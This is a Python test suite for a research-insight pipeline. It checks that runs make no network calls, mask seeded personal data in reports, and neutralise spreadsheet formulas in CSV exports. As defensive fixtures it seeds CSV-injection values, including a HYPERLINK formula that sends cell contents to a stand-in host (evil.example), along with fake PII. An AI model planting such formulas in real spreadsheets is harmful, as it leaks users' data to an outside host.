"""No code path reaches the network, and no seeded personal data reaches what people see.

One `insight run` on a small study (part of the sample survey and reviews, two interviews)
seeded with e-mails, phone, card and NHS numbers, postcodes, addresses and names, and with
spreadsheet formulas in ids and answers, runs with every Internet socket and DNS look-up
blocked (monkeypatched ``socket``): the run must succeed with no attempt recorded. The
outputs are then read as a researcher would: no seeded PII in report.html, personas.json,
personas.md or any CSV (the verbatim text stays in units.parquet), and no CSV cell a
spreadsheet would run.

Where the machine allows it (root with ``unshare``, or ``strace``), the same run is repeated
in a subprocess with no network namespace / under strace, which also catches native code.
"""

from __future__ import annotations

import csv
import json
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner

from insight.cli import main

pytestmark = [pytest.mark.models, pytest.mark.slow]

SAMPLES = Path(__file__).resolve().parent.parent / "samples"

#: (seeded text, what must never be shown)
SEEDS = [
    ("Email me at jo.tester@example.com about the machine.", "jo.tester@example.com"),
    ("Call me on 07700 900123 if the engineer is late again.", "07700 900123"),
    ("They charged my card 4111 1111 1111 1111 twice for the service.", "4111 1111 1111 1111"),
    ("My NHS number 943 476 5919 was on the delivery note, which is odd.", "943 476 5919"),
    ("Deliver it to 12 Acacia Avenue, Leeds LS1 4AP next time.", "12 Acacia Avenue"),
    ("Deliver it to 12 Acacia Avenue, Leeds LS1 4AP next time.", "LS1 4AP"),
    ("Bartholomew Fenwick from support was rude and never called back.", "Fenwick"),
    ("Ask for Priya Raman, she fixed the steam wand in minutes.", "Priya Raman"),
]
STRACE = ["strace", "-f", "-qq", "-e", "trace=connect,sendto"]
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'


def _seed_study(root: Path) -> Path:
    data = root / "data"
    (data / "interviews").mkdir(parents=True)
    survey = pd.read_csv(
        SAMPLES / "survey" / "brewline_customer_survey_2026.csv",
        header=None,
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    header = survey.iloc[:3]
    body = survey.iloc[3:163].copy()
    text_col = list(survey.iloc[0]).index("Q12_TEXT")
    id_col = list(survey.iloc[0]).index("ResponseId")
    for n, i in enumerate(body.index):
        seed = SEEDS[n % len(SEEDS)][0]
        if n % 2 == 0:
            body.at[i, text_col] = seed + " " + body.at[i, text_col]
    body.at[body.index[1], id_col] = "=1+1"
    body.at[body.index[2], id_col] = "-2+3"
    pd.concat([header, body]).to_csv(
        data / "survey.csv", header=False, index=False, encoding="utf-8"
    )
    reviews = pd.read_csv(SAMPLES / "reviews" / "brewline_reviews.csv").head(120)
    for n in range(0, len(reviews), 3):
        reviews.loc[n, "text"] = SEEDS[(n // 3) % len(SEEDS)][0] + " " + reviews.loc[n, "text"]
    reviews.loc[1, "text"] = FORMULA
    reviews.loc[4, "title"] = "@SUM(A1:A9)"
    reviews.to_csv(data / "reviews.csv", index=False)
    for f in sorted((SAMPLES / "interviews").glob("*.txt"))[:2]:
        shutil.copy(f, data / "interviews")
    return data


class NetworkAttempt(OSError):
    pass


@pytest.fixture(scope="module")
def blocked_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Any], str]:
    root = tmp_path_factory.mktemp("nonet")
    data = _seed_study(root)
    out = root / "out"
    attempts: list[Any] = []
    mp = pytest.MonkeyPatch()

    def refuse(name: str):  # type: ignore[no-untyped-def]
        def _refuse(*args: Any, **kwargs: Any) -> Any:
            attempts.append((name, args[:2]))
            raise NetworkAttempt(f"network blocked in this test: {name}{args[:2]}")

        return _refuse

    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex

    def guarded(real: Any, name: str) -> Any:
        def _connect(self: socket.socket, address: Any) -> Any:
            if self.family in (socket.AF_INET, socket.AF_INET6):
                attempts.append((name, address))
                raise NetworkAttempt(f"network blocked in this test: {name} {address}")
            return real(self, address)

        return _connect

    mp.setattr(socket.socket, "connect", guarded(real_connect, "connect"))
    mp.setattr(socket.socket, "connect_ex", guarded(real_connect_ex, "connect_ex"))
    for fn in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "create_connection"):
        mp.setattr(socket, fn, refuse(fn))
    try:
        res = CliRunner().invoke(
            main, ["run", str(data), "--out", str(out), "--seed", "0", "--bootstrap", "5"]
        )
    finally:
        mp.undo()
    assert res.exit_code == 0, res.output + repr(res.exception)
    return out, attempts, res.output


def test_pipeline_makes_no_network_attempt(blocked_run: tuple[Path, list[Any], str]) -> None:
    out, attempts, _ = blocked_run
    assert attempts == []
    assert (out / "report.html").is_file()


def _shown_files(out: Path) -> list[Path]:
    files = [out / "report.html", out / "personas.json", out / "personas.md"]
    files += sorted(out.glob("*.csv"))
    assert all(f.is_file() for f in files)
    return files


def test_no_seeded_pii_in_anything_shown(blocked_run: tuple[Path, list[Any], str]) -> None:
    out, _, _ = blocked_run
    shown = {f.name: f.read_text(encoding="utf-8") for f in _shown_files(out)}
    for _, secret in SEEDS:
        for name, text in shown.items():
            # JSON escapes nothing in these strings; HTML would not either
            assert secret not in text, f"{secret!r} shown in {name}"
    # the placeholders did reach the outputs (the seeds were shown, masked)
    everything = "\n".join(shown.values())
    assert "[EMAIL]" in everything or "[PHONE]" in everything or "[CARD]" in everything
    # the verbatim text stays in the analysis table
    units = pd.read_parquet(out / "units.parquet")
    raw = "\n".join(units["text"].astype(str))
    assert "jo.tester@example.com" in raw and "4111 1111 1111 1111" in raw


def test_csv_exports_have_no_formula_cells(blocked_run: tuple[Path, list[Any], str]) -> None:
    out, _, _ = blocked_run
    seen_neutralised = False
    for path in sorted(out.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        try:
                            float(cell)
                        except ValueError:
                            pytest.fail(f"{path.name}: formula cell {cell!r}")
                    if cell.startswith("'=") or cell.startswith("'-2+3"):
                        seen_neutralised = True
    assert seen_neutralised, "the seeded formula ids should be in segments.csv, neutralised"


def _subprocess_run(prefix: list[str], data: Path, out: Path) -> subprocess.CompletedProcess:
    code = (
        "import sys; from insight.cli import main; "
        "sys.exit(main(['run', sys.argv[1], '--out', sys.argv[2], '--bootstrap', '3']))"
    )
    return subprocess.run(
        [*prefix, sys.executable, "-c", code, str(data), str(out)],
        capture_output=True,
        text=True,
        timeout=1200,
        env={"PATH": "/usr/bin:/bin", "HOME": str(out.parent), "PYTHONHASHSEED": "0"},
    )


def _unshare_works() -> bool:
    if not shutil.which("unshare"):
        return False
    try:
        return subprocess.run(["unshare", "-n", "true"], capture_output=True).returncode == 0
    except OSError:
        return False


@pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
def test_strace_sees_no_internet_socket(tmp_path: Path) -> None:
    """The whole run under strace: no connect/sendto on an AF_INET/AF_INET6 socket, from
    Python or native code (onnxruntime, torch ...); with ``unshare -n`` too when allowed."""
    data = _seed_study(tmp_path)
    log = tmp_path / "strace.log"
    prefix = ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg", "-o", str(log)]
    if _unshare_works():
        prefix = ["unshare", "-n", *prefix]
    res = _subprocess_run(prefix, data, tmp_path / "out")
    if res.returncode != 0 and "ptrace" in res.stderr.lower():
        pytest.skip("ptrace is not permitted here")
    assert res.returncode == 0, res.stderr[-3000:]
    calls = [
        line
        for line in log.read_text(errors="replace").splitlines()
        if "AF_INET" in line or "sin_port" in line or "sin6_port" in line
    ]
    assert calls == [], "\n".join(calls[:20])
    report = json.loads((tmp_path / "out" / "run.json").read_text())
    assert report


def test_evidence_masks_pii_unless_no_redact(blocked_run: tuple[Path, list[Any], str]) -> None:
    out, _, _ = blocked_run
    args = ["evidence", str(out), "--term", "charged my card", "--limit", "50"]
    masked = CliRunner().invoke(main, args)
    assert masked.exit_code == 0, masked.output
    assert "4111 1111 1111 1111" not in masked.output and "[CARD]" in masked.output
    raw = CliRunner().invoke(main, [*args, "--no-redact"])
    assert raw.exit_code == 0, raw.output
    assert "4111 1111 1111 1111" in raw.output


def test_import_insight_switches_onnxruntime_telemetry_off() -> None:
    import os

    import insight  # noqa: F401
    from insight.offline import OFFLINE_ENV

    assert os.environ.get("ORT_DISABLE_TELEMETRY") == "1"
    assert OFFLINE_ENV["ORT_DISABLE_TELEMETRY"] == "1"


@pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
def test_onnx_session_makes_no_dns_lookup(tmp_path: Path) -> None:
    """onnxruntime's telemetry thread resolves its collector within seconds of the first
    session (10 look-ups in 90 s without ORT_DISABLE_TELEMETRY); through insight: none."""
    models = Path(__file__).resolve().parent.parent / "models" / "emotions" / "model.onnx"
    code = (
        "import time, insight\n"
        "from insight.offline import onnxruntime\n"
        "ort = onnxruntime()\n"
        f"s = ort.InferenceSession({str(models)!r}, providers=['CPUExecutionProvider'])\n"
        "time.sleep(20)\n"
    )
    log = tmp_path / "strace.log"
    res = subprocess.run(
        [*STRACE, "-o", str(log), sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=300,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
    )
    if res.returncode != 0 and "ptrace" in res.stderr.lower():
        pytest.skip("ptrace is not permitted here")
    assert res.returncode == 0, res.stderr[-2000:]
    calls = [ln for ln in log.read_text().splitlines() if "AF_INET" in ln or "htons(53)" in ln]
    assert calls == [], calls[:5]
